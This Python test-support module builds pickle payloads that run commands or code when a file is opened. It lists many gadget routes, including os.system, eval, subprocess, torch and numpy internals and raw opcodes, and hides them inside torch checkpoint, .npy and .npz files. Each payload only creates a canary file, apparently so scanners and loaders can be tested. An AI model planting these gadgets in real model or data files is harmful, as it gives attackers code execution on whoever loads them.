"""Pickles that call what they like when they are opened: opcodes for every way to say it, and files that carry them.

Each creates a file, the canary, where it runs; tests open them with plain pickle to see that they would.
"""

import io
import pickle
import shlex
import struct
import zipfile
from pathlib import Path
from typing import Any

PROTOCOLS = range(6)
# What stands in a whole file for the opcodes that take its place.
MARK = "opcodes"


class Called:
    """Pickled, by any protocol, as a call of this function with these arguments."""

    def __init__(self, function: Any, *arguments: Any):
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Any, tuple]:
        return self.call


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def called(module: str, name: str, *arguments: bytes) -> bytes:
    return named(module, name) + b"(" + b"".join(arguments) + b"tR"


def payloads(canary: Path) -> dict[str, bytes]:
    """Opcodes by what they call, without the end of a pickle; each leaves one value and the canary."""
    shell, code = text(f"touch {shlex.quote(str(canary))}"), text(f"open({str(canary)!r}, 'w').close()")
    inner = called("posix", "system", shell) + b"."
    packed = b"B" + struct.pack("<I", len(inner)) + inner
    system = named("os", "system")
    # An instance's own __setstate__, which BUILD calls.
    built = called("argparse", "Namespace") + b"}" + text("__setstate__") + system + b"sb" + shell + b"b"
    body = b"}" + text("_code") + code + b"s"
    return {
        "posix.system": called("posix", "system", shell),
        "os.system": called("os", "system", shell),
        "builtins.eval": called("builtins", "eval", code),
        "builtins.exec": called("builtins", "exec", code),
        "eval of Python 2": called("__builtin__", "eval", code),
        "getattr of an import": called(
            "builtins", "getattr", called("builtins", "__import__", text("os")), text("system")
        ) + b"(" + shell + b"tR",
        "io.open": called("io", "open", text(str(canary)), text("w")),
        "os.mkdir": called("os", "mkdir", text(str(canary))),
        "subprocess.check_call": called("subprocess", "check_call", b"(" + text("touch") + text(str(canary)) + b"l"),
        "timeit.timeit": called("timeit", "timeit", code, text("pass"), named("time", "perf_counter"), b"K\x01"),
        "functools.partial": called("functools", "partial", system, shell) + b")R",
        "map in a list": called("builtins", "list", called("builtins", "map", system, b"(" + shell + b"l")),
        "pickle.loads": called("pickle", "loads", packed),
        "torch.storage._load_from_bytes": called("torch.storage", "_load_from_bytes", b"B" + _legacy(inner)),
        "torch._tensor._rebuild_from_type_v2": called(
            "torch._tensor", "_rebuild_from_type_v2", system, named("builtins", "int"), b"(" + shell + b"t", b"}"
        ),
        "torch.fx reduce_graph_module": called("torch.fx.graph_module", "reduce_graph_module", body, text("")),
        "numpy runstring": called("numpy.testing._private.utils", "runstring", code, b"}"),
        "INST": b"(" + shell + b"ios\nsystem\n",
        "OBJ": b"(" + system + shell + b"o",
        "STACK_GLOBAL": text("os") + text("system") + b"\x93(" + shell + b"tR",
        "NEWOBJ": named("builtins", "map") + b"(" + system + b"(" + shell + b"lt\x81q\x010"
        + called("builtins", "list", b"h\x01"),
        "BUILD": built,
    }  # fmt: skip


def _legacy(inner: bytes) -> bytes:
    """A file of torch < 1.6 whose content is this pickle, as an argument of BINBYTES."""
    import torch

    file = io.BytesIO()
    torch.save(MARK, file, _use_new_zipfile_serialization=False)
    data = file.getvalue().replace(pickle.dumps(MARK, 2), b"\x80\x02" + inner)
    return struct.pack("<I", len(data)) + data


def as_pickle(opcodes: bytes, protocol: int = 2) -> bytes:
    return (b"\x80" + bytes([protocol]) if protocol > 1 else b"") + opcodes + b"."


def as_torch(content: Any, opcodes: bytes, *, is_legacy: bool = False) -> bytes:
    """A file of torch.save of content with these opcodes wherever it holds `MARK`."""
    import torch

    file = io.BytesIO()
    torch.save(content, file, _use_new_zipfile_serialization=not is_legacy)
    mark = text(MARK)
    if is_legacy:
        return _replaced(file.getvalue(), mark, opcodes)
    return rewritten(file.getvalue(), lambda data: _replaced(data, mark, opcodes))


def _replaced(data: bytes, mark: bytes, opcodes: bytes) -> bytes:
    # A text that is kept for use again is followed by its place, which may be that of another now.
    return data.replace(mark, opcodes)


def rewritten(archive: bytes, change: Any, compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive with its pickle changed, and the sums of what it is now."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(out, "w", compression) as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, change(data) if name.endswith("data.pkl") else data)
    return out.getvalue()


def as_array(pickled: bytes) -> bytes:
    """A file of numpy that says it is of objects, and holds this pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (3,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def as_arrays(pickled: bytes) -> bytes:
    """An .npz of one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("train_indices.npy", as_array(pickled))
    return out.getvalue()
